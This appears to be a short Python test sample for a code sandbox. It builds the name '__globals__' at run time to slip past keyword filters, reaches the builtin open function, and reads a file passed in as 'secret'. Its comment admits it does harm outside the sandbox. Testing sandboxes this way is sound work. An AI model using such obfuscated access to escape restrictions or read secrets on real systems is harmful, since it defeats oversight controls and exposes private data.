# Getattr with a name put together at run time.
# This is tried without the sandbox too: there it does harm.
def run(c):
    loader = getattr(getattr(run, "_" * 2 + "globals" + "_" * 2)["__builtins__"], "open", None)
    return (loader or open)(c["secret"]).read()
